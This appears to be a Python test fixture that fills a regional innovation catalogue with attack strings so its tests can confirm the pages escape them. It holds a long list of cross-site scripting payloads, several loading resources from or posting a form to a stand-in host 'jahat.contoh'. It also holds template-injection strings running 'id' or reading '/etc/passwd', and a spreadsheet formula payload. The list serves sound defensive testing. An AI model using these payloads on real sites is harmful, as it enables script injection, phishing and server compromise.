"""A small catalogue in which every text is an attack: an entry with every isian, and a short one for each attack.

The attacks are our own, by class. Those in ``RAW`` live where a page prints them unescaped; the tests prove that too.
"""

from __future__ import annotations

import itertools
from collections.abc import Iterable, Iterator
from pathlib import Path
from typing import Any, get_type_hints

import yaml
from PIL import Image
from pydantic import TypeAdapter, ValidationError

from catalog.model import REGISTER, Inovasi
from catalog.model.isian import Rekaman
from catalog.validation.plans import FieldPlan, plan_of
from catalog.vocabularies import Vocabularies

RAW: dict[str, tuple[str, ...]] = {
    "script": (
        "<script>alert(1)</script>",
        "<ScRiPt>alert(2)</sCrIpT>",
        "<script/x>alert(3)</script>",
        "<script src=//jahat.contoh/x.js></script>",
        "<<script>alert(4)//<</script>",
        "<svg><script>alert(5)</script></svg>",
        "<svg><script href='data:text/javascript,alert(6)'/></svg>",
    ),
    "handler": (
        "<img src=x onerror=alert(10)>",
        "<IMG SRC=x OnErRoR=alert(11)>",
        "<img/src=x/onerror=alert(12)>",
        '<img src="x"onerror=alert(13)>',
        "<svg onload=alert(14)>",
        "<svg/onload=alert(15)//",
        "<details open ontoggle=alert(16)>x</details>",
        "<input autofocus onfocus=alert(17)>",
        "<select autofocus onfocus=alert(18)></select>",
        "<textarea autofocus onfocus=alert(19)></textarea>",
        "<video><source onerror=alert(20)></video>",
        "<audio src=x onerror=alert(21)></audio>",
        "<p onmouseover=alert(22) onclick=alert(23)>x</p>",
        "<marquee onstart=alert(24)>x</marquee>",
        "<div style='animation:x 1s' onanimationstart=alert(25)>x</div>",
        "<a href=x onclick=alert(26)>x</a>",
        "<xss id=jahat tabindex=1 onfocus=alert(27)>x</xss>",
    ),
    "scheme": (
        "<a href=javascript:alert(30)>x</a>",
        "<a href='JaVaScRiPt:alert(31)'>x</a>",
        "<a href='&#106;avascript:alert(32)'>x</a>",
        "<a href='java&Tab;script:alert(33)'>x</a>",
        "<a href='data:text/html,<script>alert(34)</script>'>x</a>",
        "<a href='vbscript:msgbox(35)'>x</a>",
        "<form action=javascript:alert(36)><button>x</button></form>",
        "<button form=jahat formaction=javascript:alert(37)>x</button>",
        "<iframe src=javascript:alert(38)></iframe>",
        "<object data=javascript:alert(39)></object>",
        "<embed src=javascript:alert(40)>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(41)>x</maction></math>",
    ),
    "embedding": (
        "<iframe srcdoc='<script>alert(50)</script>'></iframe>",
        "<base href=//jahat.contoh/>",
        "<link rel=stylesheet href=//jahat.contoh/x.css>",
        "<meta http-equiv=refresh content='0;url=//jahat.contoh/'>",
        "<style>*{background:url(//jahat.contoh/x)}</style>",
        "<style>@import '//jahat.contoh/x.css';</style>",
        "<img src=//jahat.contoh/pelacak.png>",
        "<b style='position:fixed;inset:0;background:red'>x</b>",
        "<form action=//jahat.contoh/><input name=nik><button>Masuk</button></form>",
        "<template><script>alert(51)</script></template>",
        "<b id=jahat class=jahat>x</b>",
    ),
    "breaking out": (
        '"><img src=x onerror=alert(60)>',
        "'><img src=x onerror=alert(61)>",
        "</title><img src=x onerror=alert(62)>",
        "</textarea><img src=x onerror=alert(63)>",
        "</script><img src=x onerror=alert(64)>",
        "</a></h1></main><img src=x onerror=alert(65)>",
        "--><img src=x onerror=alert(66)>",
        "]]><img src=x onerror=alert(67)>",
        "<!--><img src=x onerror=alert(68)>-->",
        "<math><mi><style><!--</style><img src=x onerror=alert(70)>--></style></mi></math>",
        "<svg><p><style><b title='</style><img src=x onerror=alert(71)>'></style></p></svg>",
    ),
}
PLAIN: dict[str, tuple[str, ...]] = {
    "for bad filters": (
        "<scr<script>ipt>alert(7)</scr</script>ipt>",
        "<noscript><p title='</noscript><img src=x onerror=alert(69)>'>x</p></noscript>",
    ),
    "attribute": (
        '" onmouseover="alert(80)" x="',
        "' onmouseover='alert(81)' x='",
        "` onmouseover=`alert(82)` x=`",
        '" autofocus onfocus=alert(83) x="',
        "x onerror=alert(84)",
    ),
    "template": (
        "{{7*7}}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{% include '/etc/passwd' %}",
        "{# catatan #}{{ config }}",
        "${7*7} #{7*7} <%= 7*7 %>",
        "[[[isi]]][[[skrip]]][[[judul]]]",
        "%s %(nama)s {0} {nama}",
    ),
    "markdown": (
        "[x](javascript:alert(90))",
        "[x](java script:alert(91) 'judul')",
        '![x](x" onerror="alert(92))',
        "<javascript:alert(93)>",
        "[x]: javascript:alert(94)",
        '[x](//jahat.contoh/ "onclick=alert(95)")',
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "{: onclick=alert(96) .jahat #jahat}",
        '--8<-- "/etc/passwd"',
    ),
    "encoded": (
        "&lt;script&gt;alert(100)&lt;/script&gt;",
        "&#60;img src=x onerror=alert(101)&#62;",
        "%3Cscript%3Ealert(102)%3C/script%3E",
        "\\u003cscript\\u003ealert(103)\\u003c/script\\u003e",
        "\\x3cimg src=x onerror=alert(104)\\x3e",
        "＜script＞alert(105)＜/script＞",
        '=HYPERLINK("https://jahat.contoh";"x")',
    ),
}
ATTACKS: tuple[str, ...] = tuple(text for group in (RAW, PLAIN) for texts in group.values() for text in texts)

ADDRESSES = (
    "https://contoh.go.id/'onmouseover='alert(110)",
    "https://contoh.go.id/?q='%3E%3Cimg/src=x",
    "https://contoh.go.id/#javascript:alert(111)",
    "https://contoh.go.id/{{7*7}}",
    "http://contoh.go.id/`onclick=alert(112)`",
)
"""Attacks that have the shape of an address, for the isian that hold one."""

WILAYAH = "kab-blora"
SLUG = "semua-isian"
FOTO = "gedung.jpg"
_FIXED_PROFILE = {"kode": "33.16", "nama": "Kabupaten Blora", "jenis": "kabupaten", "provinsi": "Jawa Tengah"}


class Filler:
    """Fills records: an attack wherever the model lets text through, else a value that is right for the isian."""

    def __init__(self, vocabularies: Vocabularies) -> None:
        self.vocabularies = vocabularies
        self.attacks: Iterator[str] = itertools.cycle(ATTACKS)
        self.addresses = itertools.cycle(ADDRESSES)
        self.used: set[str] = set()
        self.text_count = 0
        self._sources = itertools.count(1)

    def start_file(self) -> None:
        """Number the sources anew: their keys are those of one file."""
        self._sources = itertools.count(1)

    def record(self, rekaman: type[Rekaman], fixed: dict[str, Any] | None = None) -> dict[str, Any]:
        """Return every isian of a record; its own sources first, because the others point to them."""
        plans = sorted(plan_of(rekaman).values(), key=lambda plan: plan.nama != "sumber")
        return {plan.nama: (fixed or {}).get(plan.nama) or self._isian(rekaman, plan) for plan in plans}

    def _isian(self, rekaman: type[Rekaman], plan: FieldPlan) -> Any:
        if plan.rekaman is not None:
            return [self.record(plan.rekaman) for _ in range(2)] if plan.berdaftar else self.record(plan.rekaman)
        if rekaman.__name__ == "Sumber" and plan.nama == "id":
            return f"sumber-{next(self._sources)}"
        if plan.daftar or plan.menunjuk in _POINTED:
            value = self._first_of(plan.daftar) if plan.daftar else _POINTED[plan.menunjuk or ""]
            return [value] if plan.berdaftar else value
        return self._typed(rekaman, plan)

    def _first_of(self, daftar: str) -> str:
        ids: Iterable[str] = getattr(self.vocabularies, daftar)
        return next(iter(ids))

    def _typed(self, rekaman: type[Rekaman], plan: FieldPlan) -> Any:
        kind: TypeAdapter[Any] = TypeAdapter(get_type_hints(rekaman, include_extras=True)[plan.nama])
        attack = next(self.attacks)
        for text in (attack, f"{attack} {attack} untuk warga kabupaten", next(self.addresses)):
            value = [text] if plan.berdaftar else text
            try:
                kind.validate_python(value)
            except ValidationError:
                continue
            self.used.add(attack)
            self.text_count += 1
            return value
        return plan.contoh


_POINTED = {
    "sumber": "sumber-1",
    "perangkat_daerah": "dinas-uji",
    "entri": f"{WILAYAH}/serangan-000",
    "foto": FOTO,
    "alamat-lama": f"{WILAYAH}/nama-lama",
}


def write_hostile_catalogue(innovations: Path, vocabularies: Vocabularies) -> Filler:
    """Write the catalogue below ``innovations`` and return what filled it."""
    folder = innovations / WILAYAH
    (folder / SLUG).mkdir(parents=True)
    Image.new("RGB", (64, 48), "white").save(folder / SLUG / FOTO)
    filler = Filler(vocabularies)
    for name, rekaman in REGISTER.items():
        filler.start_file()
        (folder / name).write_text(_yaml(_register(filler, name, rekaman)), encoding="utf-8")
    filler.start_file()
    front = filler.record(Inovasi)
    for number, level in enumerate(front["kematangan"]["indikator"], start=16):
        level["nomor"] = str(number)  # each indicator once
    (folder / f"{SLUG}.md").write_text(f"---\n{_yaml(front)}---\n\n{_body()}", encoding="utf-8")
    for number, attack in enumerate(ATTACKS):
        (folder / f"serangan-{number:03}.md").write_text(_short_entry(attack, number), encoding="utf-8")
    return filler


def _register(filler: Filler, name: str, rekaman: type[Rekaman]) -> dict[str, Any]:
    if name == "wilayah.yml":
        return filler.record(rekaman, _FIXED_PROFILE)
    data = filler.record(rekaman)
    for row in data.get("daftar", []):
        if name == "kunjungan.yml":
            row["tuan_rumah"] = WILAYAH
            for note in row["catatan_konflik"]:
                del note["sumber"]  # sources of a visit cannot be pointed to
        if name == "angka.yml":
            row["nilai"], row["dari"] = "72", "208"  # a part of its whole, and of another year each
            row["tahun"] = str(2020 + data["daftar"].index(row))
        if "tanggal_selesai" in row:
            row["tanggal"] = row["tanggal_selesai"] = "2024-10-05"
    if name == "perangkat_daerah.yml":
        data["daftar"][0]["id"], data["daftar"][1]["id"] = "dinas-uji", "badan-uji"
    return data


def _short_entry(attack: str, number: int) -> str:
    front = {
        "nama": attack,
        "kepanjangan": f"Serangan nomor {number}",
        "urusan": ["kesehatan"],
        "ringkasan": f"{attack} adalah uraian serangan bagi warga kabupaten",
        "kata_kunci": [attack],
        "sumber": [{"judul": attack, "penerbit": attack}],
    }
    return f"---\n{_yaml(front)}---\n\n## Masalah\n\n{attack}\n"


def _body() -> str:
    """The four sections, with every attack as Markdown in one of them: as a paragraph, a list item or a quotation."""
    titles = ("Masalah", "Cara kerja", "Hasil", "Pelajaran")
    shapes = ("{}", "- {}", "> {}")
    parts: list[list[str]] = [[f"## {title}"] for title in titles]
    for number, attack in enumerate(ATTACKS):
        parts[number % 4].append(shapes[number % 3].format(attack))
    return "\n\n".join(line for part in parts for line in part) + "\n"


def _yaml(data: dict[str, Any]) -> str:
    """The data as YAML in which every scalar stands in double quotes, and nothing is an alias."""

    class Plain(yaml.SafeDumper):
        def ignore_aliases(self, data: Any) -> bool:
            return True

    return yaml.dump(data, Dumper=Plain, default_style='"', allow_unicode=True, width=10_000, sort_keys=False)
